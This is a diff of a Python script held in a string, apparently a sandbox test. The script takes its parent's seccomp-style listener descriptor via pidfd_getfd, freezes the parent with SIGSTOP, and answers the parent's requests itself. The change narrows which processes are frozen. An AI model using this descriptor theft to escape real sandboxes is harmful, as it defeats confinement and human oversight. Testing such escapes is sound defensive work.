@@ -71,12 +71,9 @@ pidfd = libc.syscall(PIDFD_OPEN, parent, 0)
 listener = libc.syscall(PIDFD_GETFD, pidfd, int(number), 0)
 if listener < 0:
     raise SystemExit("may not: %s" % os.strerror(ctypes.get_errno()))
-with open("/proc/%d/task/%d/children" % (parent, parent)) as stream:
-    others = [one for one in map(int, stream.read().split()) if os.getsid(one) == one]
-for one in (*others, parent):  # the keeper would answer
-    os.kill(one, signal.SIGSTOP)
-    while open("/proc/%d/stat" % one).read().rsplit(")")[1].split()[0] != "T":
-        pass
+os.kill(parent, signal.SIGSTOP)
+while open("/proc/%d/stat" % parent).read().rsplit(")")[1].split()[0] != "T":
+    pass
 
 def answer():
     asked = ctypes.create_string_buffer(80)
@@ -86,8 +83,7 @@ def answer():
 threading.Thread(target=answer, daemon=True).start()
 libc.ioctl(os.open("/dev/null", os.O_RDWR), ctypes.c_ulong(0xC020462A), None)
 print("c020462a", errno.errorcode[ctypes.get_errno()])
-for one in (parent, *others):
-    os.kill(one, signal.SIGCONT)
+os.kill(parent, signal.SIGCONT)
 """
 
 
